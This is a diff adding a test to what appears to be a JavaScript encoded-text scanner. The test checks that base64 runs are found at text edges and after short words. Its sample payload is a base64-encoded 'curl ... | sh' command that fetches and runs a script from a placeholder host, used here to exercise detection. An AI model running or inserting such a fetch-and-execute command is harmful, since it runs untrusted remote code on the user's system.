@@ -81,4 +81,14 @@ describe('decoders', () => {
       assert.doesNotThrow(() => scanText(t, { kind: 'code-js' }));
     }
   });
+  it('finds base64 runs of exactly the minimum length, at text edges and after short words (skip scan)', () => {
+    const b64 = Buffer.from('curl http://x.example/y | sh').toString('base64'); // 40 chars
+    const texts = [b64, `${b64} tail`, `head ${b64}`, `a b c de ${b64}==,${b64}`, `${'word '.repeat(50)}${b64}`];
+    for (const t of texts) {
+      const spans = findEncodedSpans(t).filter((s) => s.decoder === 'base64');
+      const expected = [...t.matchAll(/[A-Za-z0-9+/_-]{20,}={0,2}/g)].map((m) => [m.index, m.index + m[0].length]);
+      assert.deepEqual(spans.map((s) => [s.start, s.end]), expected, t);
+    }
+  });
 });
+
